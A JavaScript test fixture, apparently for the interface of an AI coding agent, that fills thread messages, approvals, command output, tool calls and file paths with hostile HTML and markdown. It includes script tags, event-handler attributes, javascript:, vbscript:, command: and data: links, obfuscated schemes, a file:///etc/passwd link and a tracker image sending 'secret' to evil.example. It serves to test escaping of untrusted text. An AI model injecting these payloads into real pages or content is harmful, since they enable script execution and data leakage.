// Texts that try to be more than texts, wherever a text can come from outside.
import { agent, approval, item, page, thread, threadRow, threadsPage, turn, user } from "./scenes.mjs";

const SCRIPT = "<script>globalThis.owned = 1</script>";
const IMAGE = '<img src="https://evil.example/p.png" onerror="globalThis.owned = 1">';
const SVG = '<svg onload="globalThis.owned = 1"><a href="javascript:globalThis.owned=1">x</a></svg>';
const FRAME = '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>';
const STYLE = '<style>* { display: none }</style><p style="position:fixed;inset:0">over all</p>';

/** All of it in one line, as a name or a line of output would have it. */
export const LINE = [SCRIPT, IMAGE, SVG, FRAME, STYLE, '"><b onclick="globalThis.owned = 1">'].join(" ");

const LINKS = [
  "[a](javascript:globalThis.owned=1)",
  "[b](JaVaScRiPt:globalThis.owned=1)",
  "[c](command:workbench.action.quit)",
  "[d](vscode://evil/run)",
  "[e](data:text/html,<script>globalThis.owned=1</script>)",
  "[f](vbscript:x)",
  "[g](file:///etc/passwd)",
  "[h](&#106;avascript:globalThis.owned=1)",
  "[i](\u0001javascript:globalThis.owned=1)",
  "[good](https://example.com/page)",
  "![tracker](https://evil.example/t.png?q=secret)",
  "<https://example.com/auto> <javascript:globalThis.owned=1>",
  '[j](https://example.com "onmouseover=globalThis.owned=1")',
].join("\n\n");

const MARKDOWN = [
  LINE,
  LINKS,
  "```html\n" + LINE + "\n```",
  "`" + LINE + "`",
  `| ${SCRIPT} |\n| --- |\n| ${IMAGE} |`,
  `# ${LINE}`,
].join("\n\n");

const OUTPUT = `${LINE}\n\u001b]8;;javascript:globalThis.owned=1\u0007link\u001b]8;;\u0007 \u001b[31m${LINE}\u001b[0m \u001b[38;2;1;2;3;url(javascript:1)m${LINE}`;
const path = `/home/ada/shop/${LINE}.ts`;

export const hostileThread = [
  {
    type: "page",
    page: page({
      activeTurnId: "u2",
      notice: { text: LINE, hint: LINE },
      approvals: [
        approval({ command: LINE, reason: LINE, cwd: LINE }),
        approval({
          approvalId: "a2",
          kind: "fileChange",
          command: null,
          changes: [
            {
              uri: "file:///home/ada/" + encodeURIComponent(LINE),
              kind: "update",
              diff: `@@ -1 +1 @@\n-${LINE}\n+${LINE}\n`,
              hunks: [],
            },
          ],
        }),
        approval({
          approvalId: "a3",
          kind: "elicitation",
          command: null,
          elicitation: { message: LINE, url: "javascript:globalThis.owned=1" },
        }),
        approval({
          approvalId: "a4",
          kind: "question",
          command: null,
          questions: [{ id: "q", header: LINE, question: LINE, options: [{ label: LINE, description: LINE }] }],
        }),
      ],
      queue: [{ id: "q1", text: LINE, pictures: [] }],
      running: [{ processId: "p", command: LINE, startedAt: 1 }],
      decisions: { i1: LINE },
      choices: { model: LINE, approvals: LINE },
      limits: [{ name: LINE, percent: 1, resets: LINE }],
    }),
  },
  {
    type: "thread",
    thread: thread(
      [
        turn(
          "u1",
          [
            item("userMessage", "i1", {
              content: [
                { type: "text", text: MARKDOWN },
                { type: "image", url: "https://evil.example/u.png" },
                { type: "image", url: "data:image/svg+xml;base64,PHN2Zz4=" },
                { type: "skill", name: LINE, path },
              ],
            }),
            item("reasoning", "i2", { summary: [MARKDOWN], content: [] }),
            item("commandExecution", "i3", {
              command: LINE,
              aggregatedOutput: OUTPUT,
              exitCode: 1,
              status: "failed",
              commandActions: [{ type: "unknown" }],
            }),
            item("fileChange", "i4", {
              changes: [
                { path, kind: { type: "update", move_path: path }, diff: `@@ -1 +1 @@ ${LINE}\n-${LINE}\n+${LINE}\n` },
              ],
            }),
            item("mcpToolCall", "i5", {
              server: LINE,
              tool: LINE,
              arguments: { [LINE]: LINE },
              result: { content: [{ type: "text", text: OUTPUT }] },
              error: { message: LINE },
              status: "failed",
            }),
            item("webSearch", "i6", {
              query: LINE,
              action: { type: "openPage", url: "javascript:globalThis.owned=1" },
            }),
            item("imageGeneration", "i7", { result: `"onerror="globalThis.owned=1` }),
            item("imageView", "i8", { path }),
            item("exitedReviewMode", "i9", { review: MARKDOWN }),
            item(LINE, "i10"),
          ],
          {
            plan: { explanation: LINE, plan: [{ step: LINE, status: LINE }] },
            markers: [
              { kind: "warning", text: LINE, at: 1 },
              { kind: LINE, text: "", at: 2 },
            ],
            status: "failed",
            error: { message: LINE, additionalDetails: LINE },
          },
        ),
        turn("u2", [user("j1", LINE), agent("j2", MARKDOWN)], { status: "inProgress" }),
      ],
      { name: LINE, cwd: LINE },
    ),
  },
];

export const hostileList = [
  {
    type: "page",
    page: page({
      listing: true,
      threads: threadsPage([threadRow("t", LINE, { folder: LINE, branch: LINE, here: false })], {
        error: null,
        search: LINE,
        names: { t: LINE },
      }),
    }),
  },
];

export const hostileFailure = [
  { type: "page", page: page({ listing: true, threads: threadsPage([], { error: LINE }) }) },
];
